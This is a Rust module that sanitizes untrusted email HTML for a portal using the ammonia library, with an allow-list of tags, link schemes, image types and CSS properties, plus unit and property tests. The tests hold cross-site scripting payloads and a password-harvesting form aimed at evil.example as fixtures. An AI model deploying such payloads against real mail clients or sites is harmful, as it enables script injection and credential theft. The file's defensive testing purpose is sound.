/*!
Email HTML made safe to display, with ammonia (docs/architecture.md §8).

Email bodies are written by strangers, so the portal treats them as hostile:
it shows them in a sandboxed iframe under a CSP, and what it puts there has
first been through [`sanitize_email_html`]. That is an allow-list, so
anything not named here is dropped:

- **No active content.** `<script>`, `<style>`, `<title>`, `<iframe>`,
  `<object>`, `<embed>` and `<template>` go with their content; `<form>`,
  `<input>`, `<meta>`, `<base>`, `<link>`, `<svg>` and every other unlisted
  tag go, keeping only their text. No `on…` event handler or unlisted
  attribute survives.
- **Links** keep `http`, `https`, `mailto` and `tel` targets only (so no
  `javascript:`, `vbscript:` or `data:`, however cased or entity-encoded,
  and no relative URLs, which would point into the portal), and open in a
  new tab with `rel="noopener noreferrer nofollow"`.
- **Images.** Remote images (`http`/`https` `src`, and `srcset`) are how
  senders learn that, when and where a message was read, so they are
  removed unless the viewer allows them; the count is returned so the
  portal can offer "show N images". The `alt` text stays. `cid:` images
  refer to attachments, which TAC does not store, so they are removed (and
  not counted). Inline `data:` images are kept for PNG, GIF, JPEG and WebP
  only (an SVG can carry script). Every image gets
  `referrerpolicy="no-referrer"`.
- **Inline styles** are kept for a list of layout and typography properties
  that cannot load anything; a `style` attribute that mentions `url(`,
  `image-set(`, `expression(`, `@import` or a CSS escape is dropped whole.

```
use tac_core::sanitize::{sanitize_email_html, SanitizeOptions};

let out = sanitize_email_html(
    r#"<p onclick="x()">Hi <a href="javascript:alert(1)">you</a><img src="https://t.example/p.gif" alt="logo"></p>"#,
    SanitizeOptions::default(),
);
assert!(out.html.starts_with(r#"<p>Hi <a target="_blank" rel="noopener noreferrer nofollow">you</a><img "#));
assert!(out.html.contains(r#"alt="logo""#), "the alt text stays");
assert!(!out.html.contains("onclick") && !out.html.contains("javascript") && !out.html.contains("t.example"));
assert_eq!(out.blocked_images, 1);
```
*/

use ammonia::{Builder, Url, UrlRelative};
use std::borrow::Cow;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

/// What the viewer has chosen for this message.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SanitizeOptions {
    /// Load remote images (and so tell the sender the message was read).
    pub allow_remote_images: bool,
}

/// Safe HTML, and how many remote images were held back.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Sanitized {
    pub html: String,
    /// Images removed because they would load from the network; zero when
    /// [`SanitizeOptions::allow_remote_images`] is set.
    pub blocked_images: usize,
}

/// Tags removed together with everything inside them.
const DROP_WITH_CONTENT: &[&str] = &[
    "script", "style", "title", "iframe", "frame", "frameset", "noframes", "object", "embed", "applet", "template",
    "noembed",
];

/// Tags email layouts use, on top of ammonia's default list.
const EXTRA_TAGS: &[&str] = &["font", "tfoot"];

/// Presentational attributes kept on top of ammonia's defaults.
const EXTRA_TAG_ATTRIBUTES: &[(&str, &[&str])] = &[
    ("img", &["srcset"]),
    ("font", &["color", "face", "size"]),
    ("table", &["width", "border", "cellpadding", "cellspacing", "bgcolor"]),
    ("td", &["width", "height", "valign", "bgcolor", "nowrap"]),
    ("th", &["width", "height", "valign", "bgcolor", "nowrap"]),
    ("tr", &["valign", "bgcolor"]),
    ("div", &["align"]),
    ("p", &["align"]),
];

/// CSS properties that cannot fetch anything (no `background`,
/// `background-image`, `list-style`, `border-image`, `content`, `cursor`)
/// nor lift content out of the message (no `position`).
const STYLE_PROPERTIES: &[&str] = &[
    "color",
    "background-color",
    "font",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "font-variant",
    "text-align",
    "text-decoration",
    "text-transform",
    "text-indent",
    "line-height",
    "letter-spacing",
    "word-spacing",
    "white-space",
    "vertical-align",
    "margin",
    "margin-top",
    "margin-right",
    "margin-bottom",
    "margin-left",
    "padding",
    "padding-top",
    "padding-right",
    "padding-bottom",
    "padding-left",
    "border",
    "border-top",
    "border-right",
    "border-bottom",
    "border-left",
    "border-color",
    "border-style",
    "border-width",
    "border-collapse",
    "border-spacing",
    "border-radius",
    "width",
    "height",
    "max-width",
    "min-width",
    "max-height",
    "min-height",
    "display",
    "direction",
    "list-style-type",
    "table-layout",
    "word-break",
    "word-wrap",
    "overflow-wrap",
];

/// A `style` value containing any of these (lowercased) is dropped whole:
/// they load resources or, as escapes, could hide something that does.
/// (A CSS function needs its `(` right after the name, and escapes and
/// comments cannot split one once `\` is refused, so `url(` is enough.)
const STYLE_RED_FLAGS: &[&str] = &[
    "url(",
    "image(",
    "image-set(",
    "cross-fade(",
    "element(",
    "expression",
    "@import",
    "\\",
    "behavior",
    "binding",
    "javascript",
];

/// Inline image types that cannot carry script.
const DATA_IMAGE_TYPES: &[&str] = &["image/png", "image/gif", "image/jpeg", "image/jpg", "image/pjpeg", "image/webp"];

/// Link targets that are safe to follow.
const LINK_SCHEMES: &[&str] = &["http", "https", "mailto", "tel"];

/// The attribute ammonia adds last to every `<img>`; seeing it tells the
/// filter that one image's attributes are done (see `ImageCounter`).
const IMAGE_MARKER: (&str, &str) = ("referrerpolicy", "no-referrer");

/// Sanitises an email body for display (see the module docs for the rules).
/// Never fails and never panics: malformed HTML is parsed as browsers do.
pub fn sanitize_email_html(html: &str, options: SanitizeOptions) -> Sanitized {
    let counter = Arc::new(ImageCounter::default());
    let filter_counter = Arc::clone(&counter);
    let allow_remote = options.allow_remote_images;

    let mut builder = Builder::default();
    builder
        .add_tags(EXTRA_TAGS)
        .add_clean_content_tags(DROP_WITH_CONTENT)
        .add_generic_attributes(&["style", "dir"])
        .filter_style_properties(STYLE_PROPERTIES.iter().copied().collect())
        .url_schemes(LINK_SCHEMES.iter().copied().chain(["data"]).collect())
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .set_tag_attribute_value("img", IMAGE_MARKER.0, IMAGE_MARKER.1)
        .attribute_filter(move |element, attribute, value| {
            filter_attribute(element, attribute, value, allow_remote, &filter_counter)
        });
    for (tag, attrs) in EXTRA_TAG_ATTRIBUTES {
        builder.add_tag_attributes(*tag, attrs.iter());
    }
    let html = builder.clean(html).to_string();
    Sanitized { html, blocked_images: counter.blocked.load(Ordering::Relaxed) }
}

/// Counts blocked images, not blocked attributes: an `<img>` whose `src` and
/// `srcset` are both remote is one image. ammonia shows the filter one
/// attribute at a time, in order, and each `<img>`'s list ends with the
/// marker attribute it adds, so the marker closes an image.
#[derive(Default)]
struct ImageCounter {
    current_blocked: AtomicBool,
    blocked: AtomicUsize,
}

fn filter_attribute<'v>(
    element: &str,
    attribute: &str,
    value: &'v str,
    allow_remote: bool,
    counter: &ImageCounter,
) -> Option<Cow<'v, str>> {
    if attribute.starts_with("on") {
        return None;
    }
    match (element, attribute) {
        ("a", "href") => has_scheme(value, LINK_SCHEMES).then_some(Cow::Borrowed(value)),
        ("img", "src") => {
            if is_remote(value) {
                if allow_remote {
                    return Some(Cow::Borrowed(value));
                }
                counter.current_blocked.store(true, Ordering::Relaxed);
                return None;
            }
            is_safe_data_image(value).then_some(Cow::Borrowed(value))
        }
        ("img", "srcset") => {
            // Each candidate is `url [descriptor]`, comma-separated.
            let all_remote =
                value.split(',').filter_map(|candidate| candidate.split_whitespace().next()).all(is_remote);
            if !all_remote {
                return None;
            }
            if allow_remote {
                return Some(Cow::Borrowed(value));
            }
            counter.current_blocked.store(true, Ordering::Relaxed);
            None
        }
        ("img", a) if a == IMAGE_MARKER.0 => {
            if counter.current_blocked.swap(false, Ordering::Relaxed) {
                counter.blocked.fetch_add(1, Ordering::Relaxed);
            }
            Some(Cow::Borrowed(IMAGE_MARKER.1))
        }
        (_, "style") => {
            let lowered = value.to_lowercase();
            if STYLE_RED_FLAGS.iter().any(|flag| lowered.contains(flag)) { None } else { Some(Cow::Borrowed(value)) }
        }
        _ => Some(Cow::Borrowed(value)),
    }
}

/// Whether a URL is absolute with one of the schemes. Parsing (rather than
/// comparing prefixes) sees through case, leading blanks and embedded tabs
/// and newlines, as browsers do; entities were decoded by the HTML parser.
fn has_scheme(value: &str, schemes: &[&str]) -> bool {
    Url::parse(value).is_ok_and(|url| schemes.contains(&url.scheme()))
}

/// Whether an image source would be fetched from the network. A
/// protocol-relative `//host/x` would be too, but ammonia has already
/// dropped relative URLs by then.
fn is_remote(value: &str) -> bool {
    has_scheme(value, &["http", "https"])
}

/// A `data:` URL of an image type that cannot carry script.
fn is_safe_data_image(value: &str) -> bool {
    let Ok(url) = Url::parse(value) else { return false };
    if url.scheme() != "data" {
        return false;
    }
    let media_type = url.path().split([';', ',']).next().unwrap_or_default().trim().to_ascii_lowercase();
    DATA_IMAGE_TYPES.contains(&media_type.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn clean(html: &str) -> String {
        sanitize_email_html(html, SanitizeOptions::default()).html
    }

    /// Checks the tags of sanitised output: no event handlers, no script
    /// URLs in any attribute, only safe schemes in `href` and `src`.
    /// Returns what is wrong, for the assertion message.
    fn unsafe_markup(out: &str) -> Option<String> {
        if out.to_ascii_lowercase().contains("<script") {
            return Some("a <script tag".into());
        }
        for (name, value) in attributes(out) {
            let lname = name.to_ascii_lowercase();
            let lvalue = value.to_ascii_lowercase();
            if lname.starts_with("on") {
                return Some(format!("event handler {name}"));
            }
            // `alt`, `title` and `lang` are shown as text, never followed.
            let text_only = matches!(lname.as_str(), "alt" | "title" | "lang");
            if !text_only && (lvalue.contains("javascript:") || lvalue.contains("vbscript:")) {
                return Some(format!("script URL in {name}={value}"));
            }
            if lname == "href" && !has_scheme(&value.replace("&amp;", "&"), LINK_SCHEMES) {
                return Some(format!("unsafe href {value}"));
            }
            if lname == "src"
                && !is_remote(&value.replace("&amp;", "&"))
                && !is_safe_data_image(&value.replace("&amp;", "&"))
            {
                return Some(format!("unsafe src {value}"));
            }
        }
        None
    }

    /// The attributes of every tag in serialised HTML (html5ever quotes
    /// every value with `"` and escapes `"` inside it).
    fn attributes(out: &str) -> Vec<(String, String)> {
        let mut found = Vec::new();
        let mut rest = out;
        while let Some(lt) = rest.find('<') {
            rest = &rest[lt + 1..];
            let Some(end) = rest.find(|c: char| c.is_whitespace() || c == '>') else { break };
            if rest[..end].starts_with('/') || rest[..end].starts_with('!') {
                continue;
            }
            rest = &rest[end..];
            loop {
                rest = rest.trim_start();
                if rest.starts_with('>') || rest.is_empty() {
                    break;
                }
                let name_end = rest.find(['=', ' ', '>']).unwrap_or(rest.len());
                let name = rest[..name_end].to_owned();
                rest = &rest[name_end..];
                let mut value = String::new();
                if let Some(after) = rest.strip_prefix("=\"") {
                    let close = after.find('"').unwrap_or(after.len());
                    value = after[..close].to_owned();
                    rest = after.get(close + 1..).unwrap_or("");
                }
                found.push((name, value));
            }
        }
        found
    }

    #[test]
    fn scripts_are_removed_with_their_content() {
        assert_eq!(clean("<p>Hi</p><script>alert(1)</script>"), "<p>Hi</p>");
        assert_eq!(clean("<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok"), "ok");
        assert_eq!(clean("<svg><script>alert(1)</script></svg>ok"), "ok");
        assert_eq!(clean("<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>"), "");
    }

    #[test]
    fn event_handlers_are_removed() {
        let out = sanitize_email_html("<img src=x onerror=alert(1)>", SanitizeOptions::default());
        assert_eq!(out.html, r#"<img referrerpolicy="no-referrer">"#);
        assert_eq!(out.blocked_images, 0, "a relative src is not a remote image");
        assert_eq!(clean("<b onmouseover=\"x()\" OnClick='y()'>b</b>"), "<b>b</b>");
        assert_eq!(clean("<body onload=alert(1)>text"), "text");
    }

    #[test]
    fn script_links_are_removed_however_written() {
        for href in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "java\tscript:alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;&#x61;vascript&colon;alert(1)",
            "javascript&#58;alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "/relative/path",
            "//evil.example/x",
            "file:///etc/passwd",
        ] {
            let out = clean(&format!("<a href=\"{href}\">x</a>"));
            let mut attrs = attributes(&out);
            attrs.sort();
            assert_eq!(
                attrs,
                [
                    ("rel".to_owned(), "noopener noreferrer nofollow".to_owned()),
                    ("target".to_owned(), "_blank".to_owned())
                ],
                "{href}: {out}"
            );
        }
    }

    #[test]
    fn safe_links_open_in_a_new_tab_without_referrer() {
        assert_eq!(
            clean(r#"<a href="https://contoso.com/q?a=1&b=2" target="_self" rel="opener">site</a>"#),
            r#"<a href="https://contoso.com/q?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">site</a>"#
        );
        for href in ["mailto:ann@contoso.com", "tel:+441234567", "http://contoso.com"] {
            assert!(clean(&format!("<a href=\"{href}\">x</a>")).contains(&format!("href=\"{href}\"")), "{href}");
        }
    }

    #[test]
    fn embedding_and_form_tags_are_removed() {
        assert_eq!(clean(r#"<iframe src="https://evil.example">inside</iframe>after"#), "after");
        assert_eq!(clean(r#"<object data="x.swf"><embed src="x.swf"></object>after"#), "after");
        assert_eq!(
            clean(
                r#"<form action="https://evil.example/steal">Password: <input name=p type=password><button formaction="javascript:x()">Go</button></form>"#
            ),
            "Password: Go"
        );
        assert_eq!(clean(r#"<meta http-equiv="refresh" content="0;url=https://evil.example">text"#), "text");
        assert_eq!(
            clean(r#"<base href="https://evil.example/"><a href="https://contoso.com">a</a>"#),
            r#"<a href="https://contoso.com" target="_blank" rel="noopener noreferrer nofollow">a</a>"#
        );
        assert_eq!(clean(r#"<link rel="stylesheet" href="https://evil.example/x.css">text"#), "text");
    }

    #[test]
    fn style_elements_are_removed_with_their_content() {
        assert_eq!(clean("<style>@import url(https://evil.example/x.css); p{color:red}</style><p>Hi</p>"), "<p>Hi</p>");
        assert_eq!(
            clean("<html><head><title>T</title><style>x{}</style></head><body><p>Hi</p></body></html>"),
            "<p>Hi</p>"
        );
    }

    #[test]
    fn inline_styles_keep_safe_properties_and_lose_urls() {
        assert_eq!(
            clean(r#"<p style="color: red; position: fixed; font-weight: bold">x</p>"#),
            r#"<p style="color:red;font-weight:bold">x</p>"#
        );
        assert_eq!(clean(r#"<td style="background: url(https://t.example/p.gif); color: red">x</td>"#), "x");
        assert_eq!(
            clean(r#"<p style="color: red; background-image: URL('https://t.example/p.gif')">x</p>"#),
            "<p>x</p>"
        );
        assert_eq!(clean(r#"<p style="width: expression(alert(1))">x</p>"#), "<p>x</p>");
        assert_eq!(clean(r#"<p style="background: u\72l(https://t.example/p.gif)">x</p>"#), "<p>x</p>");
        assert_eq!(clean(r#"<p style="color: red; background-image: image-set('x.png' 1x)">x</p>"#), "<p>x</p>");
    }

    #[test]
    fn tracking_pixels_are_blocked_and_counted() {
        let html = r#"<p>Hi</p><img src="https://t.example/open.gif?id=42" width="1" height="1" alt=""><img src="HTTP://cdn.example/logo.png" alt="Logo">"#;
        let out = sanitize_email_html(html, SanitizeOptions::default());
        assert_eq!(out.blocked_images, 2);
        assert!(!out.html.contains("t.example") && !out.html.contains("cdn.example"), "{}", out.html);
        assert!(out.html.contains(r#"alt="Logo""#), "alt text stays: {}", out.html);
    }

    #[test]
    fn an_image_with_remote_src_and_srcset_counts_once() {
        let html = r#"<img src="https://a.example/1.png" srcset="https://a.example/2.png 2x"><img srcset="https://a.example/3.png 1x, https://a.example/4.png 2x"><img alt="no source">"#;
        let out = sanitize_email_html(html, SanitizeOptions::default());
        assert_eq!(out.blocked_images, 2);
        assert!(!out.html.contains("a.example"), "{}", out.html);
    }

    #[test]
    fn remote_images_load_when_allowed() {
        let html = r#"<img src="https://t.example/open.gif" srcset="https://t.example/2x.gif 2x" alt="">"#;
        let out = sanitize_email_html(html, SanitizeOptions { allow_remote_images: true });
        assert_eq!(out.blocked_images, 0);
        assert!(out.html.contains(r#"src="https://t.example/open.gif""#), "{}", out.html);
        assert!(out.html.contains(r#"srcset="https://t.example/2x.gif 2x""#), "{}", out.html);
        assert!(out.html.contains(r#"referrerpolicy="no-referrer""#), "{}", out.html);
        let mixed = sanitize_email_html(
            r#"<img srcset="https://a.example/1.png 1x, javascript:x 2x">"#,
            SanitizeOptions { allow_remote_images: true },
        );
        assert!(!mixed.html.contains("srcset"), "{}", mixed.html);
    }

    #[test]
    fn attachment_images_are_removed_without_counting() {
        let out = sanitize_email_html(
            r#"<img src="cid:image001.png@01D9" alt="chart">"#,
            SanitizeOptions { allow_remote_images: true },
        );
        assert_eq!(out.html, r#"<img alt="chart" referrerpolicy="no-referrer">"#);
        assert_eq!(out.blocked_images, 0);
    }

    #[test]
    fn inline_data_images_are_kept_only_for_raster_types() {
        let png = "data:image/png;base64,iVBORw0KGgo=";
        assert!(clean(&format!("<img src=\"{png}\">")).contains(png));
        assert!(clean("<img src=\"DATA:image/JPEG;base64,/9j/4AAQ\">").contains("src="));
        assert!(clean("<img src=\"data:image/webp;base64,UklGR\">").contains("src="));
        for bad in ["data:image/svg+xml;base64,PHN2Zz4=", "data:text/html,<script>alert(1)</script>", "data:,hello"] {
            assert!(!clean(&format!("<img src=\"{bad}\">")).contains("src="), "{bad}");
        }
    }

    #[test]
    fn email_layout_markup_survives() {
        let html = r##"<table width="600" cellpadding="0" bgcolor="#ffffff"><tr><td valign="top" style="padding: 8px"><font color="red" face="Arial">Hi</font></td></tr></table>"##;
        assert_eq!(
            clean(html),
            r##"<table width="600" cellpadding="0" bgcolor="#ffffff"><tbody><tr><td valign="top" style="padding:8px"><font color="red" face="Arial">Hi</font></td></tr></tbody></table>"##
        );
    }

    #[test]
    fn comments_and_conditional_comments_are_removed() {
        assert_eq!(clean("a<!--[if mso]><script>x</script><![endif]-->b"), "ab");
    }

    #[test]
    fn the_checker_catches_unsafe_markup() {
        assert!(unsafe_markup(r#"<img src="x" onerror="y">"#).is_some());
        assert!(unsafe_markup(r#"<a href="javascript:x">"#).is_some());
        assert!(unsafe_markup(r#"<a href="https://ok">javascript: is fine as text</a>"#).is_none());
    }

    fn hostile_fragment() -> impl Strategy<Value = String> {
        let tag = prop::sample::select(vec![
            "a", "img", "script", "svg", "math", "iframe", "p", "style", "form", "object", "body", "div", "base",
            "meta", "SCRIPT", "ScRiPt", "x",
        ]);
        let attr = prop::sample::select(vec![
            "href",
            "src",
            "srcset",
            "onerror",
            "ONLOAD",
            "onclick",
            "style",
            "xlink:href",
            "action",
            "formaction",
            "data",
            "alt",
        ]);
        let value = prop::sample::select(vec![
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "&#106;avascript:alert(1)",
            "java&#x09;script:alert(1)",
            "vbscript:x",
            "data:text/html,<script>alert(1)</script>",
            "data:image/svg+xml,<svg onload=alert(1)>",
            "https://t.example/p.gif",
            "x\" onerror=\"alert(1)",
            "background:url(javascript:alert(1))",
            "alert(1)",
        ]);
        let piece = (tag, attr, value, any::<bool>()).prop_map(|(tag, attr, value, close)| {
            if close { format!("<{tag} {attr}=\"{value}\">t</{tag}>") } else { format!("<{tag} {attr}={value}>") }
        });
        prop::collection::vec(prop_oneof![piece, "[<>\"'=a-z /:;&#]{0,12}"], 0..8).prop_map(|v| v.concat())
    }

    proptest! {
        #[test]
        fn output_never_contains_active_content(input in prop_oneof![any::<String>(), hostile_fragment()], allow in any::<bool>()) {
            let out = sanitize_email_html(&input, SanitizeOptions { allow_remote_images: allow });
            prop_assert_eq!(unsafe_markup(&out.html), None, "input {:?} gave {:?}", input, out.html);
        }
    }
}
